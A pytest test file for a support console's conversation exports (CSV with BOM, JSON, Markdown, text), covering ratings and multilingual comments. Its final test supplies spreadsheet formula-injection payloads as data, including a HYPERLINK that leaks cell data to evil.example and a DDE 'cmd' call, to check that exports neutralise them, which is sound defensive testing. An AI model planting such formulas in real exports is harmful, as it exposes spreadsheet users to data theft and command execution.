"""The conversation list as CSV (UTF-8 with BOM, one row per conversation) and the rating in
every export and in the transcripts viewer, on real rows of a real SQLite file."""

from __future__ import annotations

import csv
import json
from datetime import timedelta
from pathlib import Path

import pytest

from console.export import CSV_COLUMNS, export_conversations, export_filename
from console.store import Keyring, TranscriptStore
from console.store import repository as repo_module
from console.transcripts import render_conversation_markdown
from tests.test_insights_store import START, Clock


@pytest.fixture
def rows(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[TranscriptStore, list[str]]:
    clock = Clock()
    monkeypatch.setattr(repo_module, "utcnow", clock)
    store = TranscriptStore.open(f"sqlite:///{tmp_path / 'console.db'}", Keyring({1: bytes(range(32))}, "t"))
    ar = store.create_conversation(
        language="ar", business_line="ecommerce", model="m", backend="b", params={}
    )
    store.add_message(ar, role="user", content="أين طلبي؟")
    clock.advance(seconds=2.5)
    store.add_message(ar, role="assistant", content="طلبك في الطريق")
    store.transition(ar, "escalated", actor="customer", reason="complaint")
    clock.advance(minutes=3)
    store.transition(ar, "taken", actor="Fatima")
    clock.advance(minutes=7)
    store.transition(ar, "resolved", actor="Fatima")
    store.set_rating(ar, 4, 'شكرًا, "سريع"\nجدًا')  # a comma, quotes and a newline
    clock.advance(hours=1)
    ja = store.create_conversation(language="ja", business_line="saas", model="m", backend="b", params={})
    store.add_message(ja, role="user", content="ログインできません")
    return store, [ar, ja]


def test_csv_one_row_per_conversation_readable_by_a_spreadsheet(
    rows: tuple[TranscriptStore, list[str]], tmp_path: Path
) -> None:
    store, ids = rows
    path = export_conversations(store.iter_conversations(ids), "csv", tmp_path / export_filename(2, "csv"))
    assert path.suffix == ".csv"
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM spreadsheets look for
    with path.open(encoding="utf-8-sig", newline="") as handle:
        table = list(csv.reader(handle))
    assert tuple(table[0]) == CSV_COLUMNS
    assert len(table) == 3
    ar = dict(zip(CSV_COLUMNS, table[1], strict=True))
    assert ar == {
        "id": ids[0],
        "started_utc": START.strftime("%Y-%m-%d %H:%M:%S"),
        "language": "ar",
        "business_line": "ecommerce",
        "status": "resolved",
        "owner": "bot",  # resolved: the assistant answers if the customer writes again
        "first_response_s": "2.5",
        "resolution_s": f"{(timedelta(seconds=2.5) + timedelta(minutes=10)).total_seconds():.1f}",
        "handoff_reason": "complaint",
        "rating": "4",
        "rating_comment": 'شكرًا, "سريع"\nجدًا',
        "messages": "2",
        "tags": "",
    }
    ja = dict(zip(CSV_COLUMNS, table[2], strict=True))
    assert (ja["language"], ja["status"], ja["first_response_s"], ja["rating"]) == ("ja", "open", "", "")


def test_rating_in_every_export_and_the_viewer(
    rows: tuple[TranscriptStore, list[str]], tmp_path: Path
) -> None:
    store, ids = rows
    record = store.get_conversation(ids[0])
    data = json.loads(export_conversations([record], "json", tmp_path / "a.json").read_text("utf-8"))
    assert (data[0]["rating"], data[0]["rating_comment"], data[0]["handoff_reason"]) == (
        4,
        'شكرًا, "سريع"\nجدًا',
        "complaint",
    )
    assert data[0]["first_response_ms"] == pytest.approx(2500)
    markdown = export_conversations([record], "markdown", tmp_path / "a.md").read_text("utf-8")
    assert "Rating: 4/5" in markdown and "جدًا" in markdown
    text = export_conversations([record], "text", tmp_path / "a.txt").read_text("utf-8")
    assert "Rating: 4/5" in text
    viewer = render_conversation_markdown(record)
    assert "★★★★☆" in viewer and "4/5" in viewer


@pytest.mark.parametrize(
    "comment",
    [
        '=HYPERLINK("https://evil.example/?"&A2,"details")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "＝1+1",  # a full-width equals sign, an operator in some locales
    ],
)
def test_csv_free_text_is_never_a_formula(
    rows: tuple[TranscriptStore, list[str]], tmp_path: Path, comment: str
) -> None:
    """The customer writes the rating comment: a spreadsheet must show it, not run it.
    Every other export keeps it exactly as written."""
    store, ids = rows
    store.set_rating(ids[1], 1, comment)
    store.set_tags(ids[1], "-urgent, vip")
    path = export_conversations(store.iter_conversations(ids[1:]), "csv", tmp_path / "list.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        row = dict(zip(CSV_COLUMNS, list(csv.reader(handle))[1], strict=True))
    stored = store.get_conversation(ids[1]).rating_comment  # as the store keeps it (trimmed)
    assert stored is not None and stored.strip() == comment.strip()
    assert row["rating_comment"] == "'" + stored
    assert row["tags"] == "'-urgent, vip"
    record = json.loads(
        export_conversations(store.iter_conversations(ids[1:]), "json", tmp_path / "a.json").read_text(
            "utf-8"
        )
    )
    assert record[0]["rating_comment"] == stored
